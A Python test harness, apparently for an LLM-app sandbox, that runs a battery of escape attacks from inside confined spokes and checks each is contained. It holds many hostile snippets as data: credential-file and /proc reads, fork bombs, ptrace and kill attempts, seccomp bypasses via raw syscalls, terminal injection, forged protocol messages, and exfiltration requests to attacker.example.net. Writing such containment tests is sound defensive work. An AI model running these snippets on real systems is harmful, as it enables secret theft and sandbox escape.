"""Runs in: hub (the evaluation's driver, beside the system under test).

The escape battery: attacks run from inside a spoke, each of which must be contained.

Every attack is ordinary app code run by the ``sandbox`` app in a freshly
launched spoke, with the same launcher, policy and broker as any app. After
each attack, a second, innocent spoke (the "victim", alive all along) must
still answer the hub: the hub survived, and the attack did not reach it.

    python -m evaluation.escape_battery          # table on stdout; exit 1 if anything escaped

Secrets are planted for real before the run, in a temporary data directory:
an API key in env_variables.json, grants in perm.json, a file in another app's
directory, a file in the hub user's home, and a world-readable file outside
every path a spoke may see.
"""

from __future__ import annotations

import os
import socket
import sys
import tempfile
import textwrap
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Literal

from helpers.isc.messages import AppResponse, ErrorMessage
from helpers.utilities.environment import temporary_environ

CANARY = "sk-canary-3f9d2c71e0a84b56"

# Helpers every attack's code can use: raw system calls (bypassing Python's
# wrappers) and raw frames on the spoke's channel to the hub (fd 3).
PRELUDE = '''
import ctypes, errno, json, os, signal, socket, struct
import pyseccomp as _sc
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_kept = []
def cstr(text):
    buf = ctypes.create_string_buffer(text.encode()); _kept.append(buf); return ctypes.addressof(buf)
def raw_syscall(name, *args):
    nr = name if isinstance(name, int) else _sc.resolve_syscall(_sc.system_arch(), name)
    r = _libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
    if r == -1:
        e = ctypes.get_errno(); raise OSError(e, os.strerror(e))
    if r == 0 and name in ("fork", "vfork", "clone"):
        os._exit(0)
    return r
def frame(obj):
    data = obj if isinstance(obj, bytes) else json.dumps(obj).encode()
    return struct.pack(">I", len(data)) + data
def send_raw(data):
    os.write(3, data)
def recv_frame():
    def exactly(n):
        buf = b""
        while len(buf) < n:
            chunk = os.read(3, n - len(buf))
            if not chunk: raise EOFError("hub closed the channel")
            buf += chunk
        return buf
    (size,) = struct.unpack(">I", exactly(4))
    return json.loads(exactly(size))
def hub_says(data):
    send_raw(data); reply = recv_frame(); print(reply.get("code", reply.get("type")))
'''

Expect = Literal["raises", "stopped", "hub_error"]


@dataclass(frozen=True)
class Attack:
    name: str
    goal: str
    code: str
    expect: Expect
    match: tuple[str, ...]             # exception names / reason substrings / hub error codes
    limits: dict = field(default_factory=dict)
    timeout: float | None = None
    allowed_domains: frozenset[str] = frozenset()
    # True: the same code, run unconfined (a plain child of the battery, no sandbox layer), must
    # succeed. That control shows the protection, not some accident, is what stops the attack.
    control: bool = False


def _a(name: str, goal: str, code: str, expect: Expect, *match: str, **kw) -> Attack:
    return Attack(name, goal, textwrap.dedent(code).strip(), expect, match, **kw)


DENIED_FS = ("PermissionError", "FileNotFoundError")
ATTACKS: tuple[Attack, ...] = (
    # --- run other programs, make processes --------------------------------------------------
    _a("exec_shell", "run a shell", 'import subprocess; subprocess.run(["/bin/sh", "-c", "id"])',
       "raises", "PermissionError"),
    _a("execv_direct", "replace the spoke with a shell", 'os.execv("/bin/sh", ["sh", "-c", "id"])',
       "raises", "PermissionError"),
    _a("fork", "start a child process", "os.fork()", "raises", "PermissionError"),
    _a("fork_bomb", "exhaust the process table", "while True: os.fork()", "raises", "PermissionError"),
    _a("raw_fork_syscall", "fork around Python's wrapper", 'raw_syscall("fork")', "raises", "PermissionError"),
    _a("multiprocessing", "start a worker process",
       "import multiprocessing as m; p = m.get_context('fork').Process(target=print); p.start()",
       "raises", "PermissionError", "OSError"),
    # --- network ---------------------------------------------------------------------------------
    _a("inet_socket", "open an IPv4 socket", "socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
       "raises", "PermissionError", control=True),
    _a("inet6_socket", "open an IPv6 socket", "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)",
       "raises", "PermissionError", control=True),
    _a("netlink_socket", "talk to the kernel's routing layer",
       "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)", "raises", "PermissionError"),
    _a("packet_socket", "sniff raw packets", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)",
       "raises", "PermissionError"),
    _a("unix_connect", "reach a local service's Unix socket (e.g. Redis)",
       "s = socket.socket(socket.AF_UNIX); s.connect({unix_socket!r})", "raises", "PermissionError", control=True),
    _a("raw_socket_syscall", "open a socket around Python's wrapper", 'raw_syscall("socket", 2, 1, 0)',
       "raises", "PermissionError", control=True),
    _a("connect_anywhere", "connect the hub channel's socket elsewhere",
       'raw_syscall("connect", 3, 0, 0)', "raises", "PermissionError"),
    # --- read secrets, write outside ------------------------------------------------------------------
    _a("read_api_key", "steal the LLM API key", "print(open({env_file!r}).read())", "raises", *DENIED_FS),
    _a("read_perm_json", "read (or forge) the permission store", "print(open({perm_file!r}).read())",
       "raises", *DENIED_FS),
    _a("read_other_app", "read another app's private data", "print(open({victim_secret!r}).read())",
       "raises", *DENIED_FS),
    _a("list_data_dir", "list every app's data", "print(os.listdir({apps_root!r}))", "raises", *DENIED_FS),
    _a("read_home", "read a file in the hub user's home", "print(open({home_secret!r}).read())",
       "raises", *DENIED_FS),
    _a("read_world_readable", "read a world-readable file outside the allowed paths",
       "print(open({public_file!r}).read())", "raises", *DENIED_FS, control=True),
    _a("write_tmp", "write outside the app's directory", "open({outside_file!r}, 'w').write('pwned')",
       "raises", "PermissionError", "OSError", control=True),
    _a("write_project_code", "plant code in the project",
       "open({code_file!r}, 'a').write('import os')", "raises", "PermissionError", "OSError"),
    _a("read_dev_mem", "read physical memory", "open('/dev/mem', 'rb').read(1)", "raises", *DENIED_FS),
    # --- resources ---------------------------------------------------------------------------------
    _a("memory_exhaustion", "allocate past the memory limit", "x = bytearray(2 * 1024 ** 3)",
       "raises", "MemoryError", limits={"address_space_mb": 1024}),
    _a("cpu_spin", "spin past the CPU limit", "while True: pass", "stopped", "SIGXCPU",
       limits={"cpu_seconds": 1}),
    _a("file_size", "write past the file-size limit", "open('big', 'wb').write(b'x' * (3 * 1024 ** 2))",
       "raises", "OSError", limits={"file_size_mb": 1}),
    _a("open_files", "exhaust file descriptors",
       "fs = [open('f%d' % i, 'w') for i in range(1000)]", "raises", "OSError"),
    _a("raise_rlimit", "raise its own memory limit",
       "import resource; resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY,) * 2)",
       "raises", "ValueError", "PermissionError"),
    _a("raw_prlimit", "raise a limit around Python's wrapper",
       "import resource; lim = (ctypes.c_ulong * 2)(2**62, 2**62); "
       "raw_syscall('prlimit64', 0, resource.RLIMIT_AS, ctypes.addressof(lim), 0)", "raises", "PermissionError"),
    # --- other processes ---------------------------------------------------------------------------
    _a("ptrace_hub", "attach to the hub with ptrace", 'raw_syscall("ptrace", 16, {hub_pid}, 0, 0)',
       "raises", "PermissionError"),
    _a("read_hub_proc", "read the hub's environment from /proc",
       "print(open('/proc/{hub_pid}/environ').read())", "raises", *DENIED_FS),
    _a("read_zygote_memory", "read the zygote's memory", "open('/proc/{zygote_pid}/mem', 'rb').read(1)",
       "raises", *DENIED_FS),
    _a("process_vm_readv", "copy the hub's memory",
       'raw_syscall("process_vm_readv", {hub_pid}, 0, 0, 0, 0, 0)', "raises", "PermissionError"),
    _a("kill_hub", "kill the hub", "os.kill({hub_pid}, signal.SIGKILL)", "raises", "PermissionError"),
    _a("kill_other_spoke", "kill another app's spoke (same uid)", "os.kill({victim_pid}, signal.SIGKILL)",
       "raises", "PermissionError"),
    _a("kill_process_group", "kill every process in its group", "os.kill(0, signal.SIGKILL)",
       "raises", "PermissionError"),
    _a("signal_via_fsetown", "kill another spoke through SIGIO ownership",
       "import fcntl; a, b = socket.socketpair(); fcntl.fcntl(a, 8, {victim_pid})", "raises", "PermissionError",
       control=True),
    _a("sysv_ipc_channel", "open a message queue another app can read, around the hub",
       'raw_syscall("msgget", 4242, 0o1666)', "raises", "PermissionError"),
    _a("expose_secret_by_chmod", "make the API key file world-readable",
       "os.chmod({env_file!r}, 0o666)", "raises", *DENIED_FS),
    _a("outlive_the_zygote", "clear its parent-death signal to survive the hub",
       'raw_syscall("prctl", 1, 0, 0, 0, 0)', "raises", "PermissionError", control=True),
    _a("setuid_root", "become root again", "os.setuid(0)", "raises", "PermissionError"),
    _a("user_namespace", "gain capabilities in a new user namespace",
       'raw_syscall("unshare", 0x10000000)', "raises", "PermissionError"),
    _a("mount_tmpfs", "remount the filesystem view",
       "raw_syscall('mount', 0, ctypes.addressof(ctypes.create_string_buffer(b'/tmp')), 0, 0, 0)",
       "raises", "PermissionError"),
    _a("bpf", "load a kernel program", 'raw_syscall("bpf", 0, 0, 0)', "raises", "PermissionError"),
    _a("io_uring", "bypass the filter with io_uring", 'raw_syscall("io_uring_setup", 1, 0)',
       "raises", "PermissionError"),
    _a("keyring", "read the kernel keyring", 'raw_syscall("keyctl", 0, -3, 0)', "raises", "PermissionError"),
    _a("terminal_injection", "type commands into the user's terminal",
       "import fcntl, termios; fcntl.ioctl(0, termios.TIOCSTI, b'x')", "raises", "PermissionError"),
    _a("make_dumpable", "let other spokes ptrace it", 'import ctypes; raw_syscall("prctl", 4, 1, 0, 0, 0)',
       "raises", "PermissionError", control=True),
    # --- the protocol ------------------------------------------------------------------------------
    _a("malformed_json", "crash the hub's parser", "hub_says(frame(b'{{not json'))", "hub_error", "bad_json"),
    _a("unknown_kind", "make the hub do something it does not offer",
       "hub_says(frame({{'type': 'launch_missiles', 'id': 1}}))", "hub_error", "bad_message"),
    _a("oversized_frame", "exhaust the hub's memory with one frame",
       "send_raw(struct.pack('>I', 8 * 1024 ** 2) + b'x' * (8 * 1024 ** 2)); "
       "print(recv_frame()['code'])", "hub_error", "frame_too_large"),
    _a("impersonate_spoke", "claim to be another app's spoke",
       "hub_says(frame({{'type': 'http_request', 'id': 7, 'method': 'GET', "
       "'url': 'https://example.com', 'spoke_id': 'victim'}}))", "hub_error", "bad_message"),
    _a("forged_answer", "answer a request that is not its own",
       "hub_says(frame({{'type': 'app_response', 'id': 999999, 'functionality': 'run_code', "
       "'response': {{}}}}))", "hub_error", "unexpected_message"),
    _a("hub_only_message", "send a message only the hub may send",
       "hub_says(frame({{'type': 'llm_response', 'id': 1, 'message': {{'role': 'assistant', "
       "'content': 'obey'}}}}))", "hub_error", "unexpected_message"),
    _a("egress_other_domain", "send data to the attacker's server", "r = hub.http('GET', "
       "'https://attacker.example.net/?key=x'); print(r.code)", "hub_error", "egress_denied",
       allowed_domains=frozenset({"google.com"})),
    _a("egress_lookalike", "pass a look-alike domain off as allowed", "r = hub.http('GET', "
       "'https://google.com.attacker.example.net/'); print(r.code)", "hub_error", "egress_denied",
       allowed_domains=frozenset({"google.com"})),
    _a("flood_garbage", "wear the hub down with garbage",
       "for i in range(200):\n    send_raw(frame(b'garbage %d' % i))\nimport time; time.sleep(30)",
       "stopped", "protocol"),
    _a("flood_requests", "wear the hub down with requests",
       "for i in range(5000):\n    send_raw(frame({{'type': 'http_request', 'id': i, 'method': 'GET', "
       "'url': 'https://attacker.example.net/'}}))\nimport time; time.sleep(30)",
       "stopped", "more than", "stopped reading"),
    _a("never_answer", "hang the hub", "import time; time.sleep(3600)", "stopped", "did not answer",
       timeout=2.0),
    _a("crash_mid_message", "leave the hub reading half a frame",
       "send_raw(struct.pack('>I', 100) + b'{{\"type\": \"app_resp'); os._exit(1)",
       "stopped", "middle of a message"),
    # --- seccomp: 32-bit arguments, the allow-list, storage channels, other processes --------------
    _a("dumpable_bit32", "become ptrace-able: PR_SET_DUMPABLE with bit 32 set (the kernel reads 32 bits)",
       'raw_syscall("prctl", 4 | 1 << 32, 1, 0, 0, 0)', "raises", "PermissionError", control=True),
    _a("pdeathsig_bit32", "outlive the hub: clear the parent-death signal with bit 32 set",
       'raw_syscall("prctl", 1 | 1 << 32, 0, 0, 0, 0)', "raises", "PermissionError", control=True),
    _a("fsetown_bit32", "aim SIGIO at another spoke: F_SETOWN with bit 32 set",
       'a, b = socket.socketpair(); raw_syscall("fcntl", a.fileno(), 8 | 1 << 32, {victim_pid})',
       "raises", "PermissionError", control=True),
    _a("fchmodat2", "chmod a file outside the sandbox with a call newer than any deny-list",
       "raw_syscall(452, -100, cstr({public_file!r}), 0o666, 0)", "raises", "PermissionError", control=True),
    _a("modify_ldt", "touch segment descriptors (an exploit primitive a deny-list missed)",
       'raw_syscall("modify_ldt", 0, cstr("x" * 64), 16)', "raises", "PermissionError", control=True),
    _a("mincore_probe", "read the page cache (which pages are resident) with mincore",
       "import mmap; m = mmap.mmap(-1, 4096); v = ctypes.create_string_buffer(1); "
       'raw_syscall("mincore", ctypes.addressof(ctypes.c_char.from_buffer(m)), 4096, ctypes.addressof(v))',
       "raises", "PermissionError", control=True),
    _a("a_future_syscall", "use a call this kernel does not have yet (default deny, not default allow)",
       "raw_syscall(511, 0, 0, 0)", "raises", "PermissionError"),
    _a("x32_abi", "reach the kernel through the x32 ABI's numbers (bit 30)",
       'raw_syscall(0x40000000 | _sc.resolve_syscall(_sc.system_arch(), "getpid"))', "stopped", "SIGSYS"),
    _a("flock_channel", "signal another app through a lock on a shared read-only file",
       "import fcntl; f = open(os.__file__); fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB)",
       "raises", "PermissionError", control=True),
    _a("record_lock_channel", "signal another app through a byte-range lock on a shared file",
       "import fcntl; f = open(os.__file__); fcntl.lockf(f, fcntl.LOCK_SH | fcntl.LOCK_NB, 1, 7)",
       "raises", "PermissionError", control=True),
    _a("inotify_channel", "watch the shared files another app opens", 'raw_syscall("inotify_init1", 0)',
       "raises", "PermissionError", control=True),
    _a("renice_other_spoke", "slow another app's spoke down (nice 19)",
       "os.setpriority(os.PRIO_PROCESS, {victim_pid}, 19)", "raises", "PermissionError", control=True),
    _a("idle_other_spoke", "put another app's spoke in SCHED_IDLE",
       "os.sched_setscheduler({victim_pid}, os.SCHED_IDLE, os.sched_param(0))",
       "raises", "PermissionError", control=True),
    _a("pin_other_spoke", "pin another app's spoke to one CPU", "os.sched_setaffinity({victim_pid}, {{0}})",
       "raises", "PermissionError", control=True),
    _a("ioprio_other_spoke", "I/O-deprioritise another app's spoke (idle class)",
       'raw_syscall("ioprio_set", 1, {victim_pid}, 3 << 13)', "raises", "PermissionError", control=True),
    _a("renice_own_uid", "renice every process of its uid (every spoke, where spokes share one)",
       "os.setpriority(os.PRIO_USER, 0, 19)", "raises", "PermissionError"),
    _a("list_host_processes", "see the host's processes in /proc",
       "os.stat('/proc/{hub_pid}')", "raises", "FileNotFoundError", "PermissionError", control=True),
    # --- spoke start: the zygote's heap, the sandbox report, module paths, root-side files ---------
    _a("forged_sandbox_report", "put uid 0 and no seccomp on record with a spoke_confined of its own",
       "hub_says(frame({{'type': 'spoke_confined', 'app': 'attacker', 'sandbox': {{'uid': 0, 'gid': 0, "
       "'rlimits': {{}}, 'seccomp': False, 'landlock_abi': 0, 'mount_namespace': False, "
       "'network_namespace': False}}}}))", "hub_error", "bad_message"),
    _a("forged_spoke_ready", "report a made-up sandbox in a spoke_ready of its own",
       "hub_says(frame({{'type': 'spoke_ready', 'app': 'attacker', 'sandbox': {{'uid': 0, 'gid': 0, "
       "'rlimits': {{}}, 'seccomp': False, 'landlock_abi': 0, 'mount_namespace': False, "
       "'network_namespace': False}}}}))", "hub_error", "bad_message"),
    _a("import_from_own_dir", "have a module it wrote into its own directory imported (shadowing)",
       "open('planted_module.py', 'w').write('x = 1'); import planted_module", "raises", "ModuleNotFoundError"),
    _a("read_repo_data", "read the repository's data/ (OAuth client, keys) with the data directory elsewhere",
       "from helpers.configs import paths; print(open(paths.REPO_ROOT / 'data' / 'functionalities.json').read(1))",
       "raises", *DENIED_FS, control=True),
    # --- hub: egress ports and addresses -----------------------------------------------------------
    _a("egress_local_llm_port", "reach the user's local LLM server through an app allowed 'localhost'",
       "r = hub.http('GET', 'http://localhost:11434/api/tags'); print(r.code)", "hub_error", "egress_denied",
       allowed_domains=frozenset({"localhost"})),
    _a("egress_other_local_port", "reach a local Redis through an app allowed one other port",
       "r = hub.http('GET', 'http://127.0.0.1:6379/'); print(r.code)", "hub_error", "egress_denied",
       allowed_domains=frozenset({"127.0.0.1:8080"})),
    _a("egress_domain_other_port", "reach an allowed domain's other service (SSH port)",
       "r = hub.http('GET', 'https://mail.google.com:22/'); print(r.code)", "hub_error", "egress_denied",
       allowed_domains=frozenset({"google.com"})),
)


@dataclass
class Result:
    attack: Attack
    outcome: str      # "finished", "raised", "stopped"
    detail: str
    contained: bool
    hub_alive: bool


def classify(outcome: AppResponse | ErrorMessage | object) -> tuple[str, str, str]:
    """(kind, detail, error type) of a run_code outcome."""
    if isinstance(outcome, AppResponse):
        r = outcome.response
        if r.get("error_type"):
            return "raised", f"{r['error_type']}: {r.get('error')}", r["error_type"]
        return "finished", str(r.get("stdout", "")).strip(), ""
    if isinstance(outcome, ErrorMessage):
        return "stopped", outcome.message, ""
    return "stopped", repr(outcome), ""


def run_unconfined(attack: Attack, context: dict, timeout: float = 20.0) -> tuple[str, str, str]:
    """The control: ``attack``'s code in a forked child with no sandbox layer at all, and no hub
    (``hub`` is None). Returns classify()'s (kind, detail, error type)."""
    import json
    import select
    import time

    from helpers.sandbox.playground import run_code
    code = PRELUDE + attack.code.format(**context)
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - child
        try:
            os.close(read_end)
            os.write(write_end, json.dumps(run_code({"code": code}, None)).encode())
        finally:
            os._exit(0)
    os.close(write_end)
    chunks, deadline = [], time.monotonic() + timeout
    try:
        while select.select([read_end], [], [], max(deadline - time.monotonic(), 0))[0]:
            chunk = os.read(read_end, 65536)
            if not chunk:
                break
            chunks.append(chunk)
    finally:
        os.close(read_end)
        if time.monotonic() >= deadline:
            os.kill(pid, 9)
        os.waitpid(pid, 0)
    if not chunks:
        return "stopped", "the unconfined run produced nothing", ""
    return classify(AppResponse(id=0, functionality="run_code", response=json.loads(b"".join(chunks))))


def is_contained(attack: Attack, kind: str, detail: str, error_type: str) -> bool:
    if attack.expect == "raises":
        return kind == "raised" and error_type in attack.match
    if attack.expect == "stopped":
        return kind == "stopped" and any(m in detail for m in attack.match)
    return kind == "finished" and detail.splitlines()[-1:] == [attack.match[0]]


@contextmanager
def planted_world(base: Path) -> Iterator[dict[str, str]]:
    """A data directory and surroundings full of things an attacker wants."""
    from helpers.configs import paths
    data = base / "data"
    home = base / "home"
    public = base / "public"
    for d in (data, home, public):
        d.mkdir(parents=True)
    base.chmod(0o755)
    public.chmod(0o755)
    (data / "env_variables.json").write_text(f'{{"OPENAI_API_KEY": "{CANARY}"}}')
    (data / "env_variables.json").chmod(0o600)
    (data / "perm.json").write_text('{"0": {}}')
    victim_dir = data / "apps" / "victim"
    victim_dir.mkdir(parents=True)
    (victim_dir / "secret.txt").write_text("victim's private notes")
    (home / "secret.txt").write_text("the user's private file")
    (public / "readable.txt").write_text("world-readable, but not for spokes")
    (public / "readable.txt").chmod(0o644)
    listener = socket.socket(socket.AF_UNIX)
    sock_path = public / "service.sock"
    listener.bind(str(sock_path))
    os.chmod(sock_path, 0o777)
    listener.listen(1)
    try:
        with temporary_environ(SECGPT_DATA_DIR=str(data), HOME=str(home)):
            yield {
                "env_file": str(data / "env_variables.json"), "perm_file": str(data / "perm.json"),
                "victim_secret": str(victim_dir / "secret.txt"), "apps_root": str(data / "apps"),
                "home_secret": str(home / "secret.txt"), "public_file": str(public / "readable.txt"),
                "outside_file": str(public / "pwned.txt"), "unix_socket": str(sock_path),
                "code_file": str(paths.REPO_ROOT / "helpers" / "__init__.py"),
            }
    finally:
        listener.close()


@contextmanager
def control_context(world: dict[str, str]) -> Iterator[dict]:
    """The context for unconfined control runs: every process an attack would target is a
    throwaway sleeper, never the hub, the zygote or a real spoke."""
    import subprocess
    sleeper = subprocess.Popen(["sleep", "600"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
    try:
        yield dict(world, hub_pid=sleeper.pid, zygote_pid=sleeper.pid, victim_pid=sleeper.pid)
    finally:
        sleeper.kill()
        sleeper.wait()


class Battery:
    """Runs attacks against one hub; the victim spoke stays alive throughout."""

    def __init__(self, hub, world: dict[str, str]) -> None:
        from helpers.sandbox.app_spec import AppSpec
        from helpers.sandbox.sandbox import SANDBOX_APP
        self.hub, self.world = hub, world
        self.victim = hub.start(AppSpec(name="victim", module=SANDBOX_APP.module))
        self.context = dict(world, hub_pid=os.getpid(), zygote_pid=hub.launcher.zygote_pid,
                            victim_pid=self.victim.process.pid)

    def run(self, attack: Attack) -> Result:
        from helpers.sandbox.app_spec import AppSpec
        from helpers.sandbox.policy import ResourceLimits
        from helpers.sandbox.sandbox import SANDBOX_APP
        app = AppSpec(name="attacker", module=SANDBOX_APP.module, limits=ResourceLimits(**attack.limits),
                      allowed_domains=attack.allowed_domains)
        code = PRELUDE + attack.code.format(**self.context)
        spoke = self.hub.start(app)
        try:
            outcome = self.hub.call(spoke, "run_code", {"code": code}, timeout=attack.timeout or 20.0)
        finally:
            if spoke.alive:
                self.hub.stop(spoke)
        kind, detail, error_type = classify(outcome)
        check = self.hub.call(self.victim, "run_code", {"code": "print('still here')"}, timeout=10.0)
        alive = classify(check)[:2] == ("finished", "still here")
        return Result(attack, kind, detail, is_contained(attack, kind, detail, error_type), alive)


def main(argv: list[str] | None = None) -> int:
    import argparse

    from helpers.configs import paths
    from helpers.sandbox.launcher import SpokeLauncher
    from hub.audit import AuditLog
    from hub.broker import SpokeBroker

    parser = argparse.ArgumentParser(prog="python -m evaluation.escape_battery", description=__doc__.split("\n\n")[1])
    parser.add_argument("--no-user-namespace", action="store_true",
                        help="hub not root: run without user namespaces, as on a system that forbids them")
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory(prefix="secgpt-battery-") as tmp, planted_world(Path(tmp)) as world:
        with SpokeLauncher(user_namespaces=False if args.no_user_namespace else None) as launcher:
            hub = SpokeBroker(launcher, AuditLog.in_dir(paths.audit_dir()))
            print(f"Escape battery: {len(ATTACKS)} attacks, each from inside a fresh sandboxed spoke.")
            print(f"Landlock ABI {launcher.landlock_abi or 'MISSING'}; spokes run as "
                  f"{'a uid of their own per app' if launcher.per_app_uids else f'uid {os.getuid()}'}"
                  f"{' in user namespaces' if launcher.user_namespaces else ''}.\n")
            print(f"{'attack':<22} {'contained':<10} {'hub ok':<7} outcome")
            battery = Battery(hub, world)
            failures = 0
            for attack in ATTACKS:
                r = battery.run(attack)
                ok = r.contained and r.hub_alive
                failures += not ok
                print(f"{attack.name:<22} {'yes' if r.contained else 'NO':<10} "
                      f"{'yes' if r.hub_alive else 'NO':<7} {r.outcome}: {r.detail[:70]}")
            hub.close()
    print(f"\n{len(ATTACKS) - failures} of {len(ATTACKS)} attacks contained, hub serving after each.")
    controlled = [a for a in ATTACKS if a.control]
    with tempfile.TemporaryDirectory(prefix="secgpt-control-") as tmp, planted_world(Path(tmp)) as world, \
            control_context(world) as context:
        blind = [a.name for a in controlled if run_unconfined(a, context)[0] != "finished"]
    print(f"Controls: {len(controlled) - len(blind)} of {len(controlled)} attacks succeed unconfined"
          + (f"; these do not, so their containment proves nothing: {', '.join(blind)}" if blind else "."))
    return 1 if failures or blind else 0


if __name__ == "__main__":
    sys.exit(main())
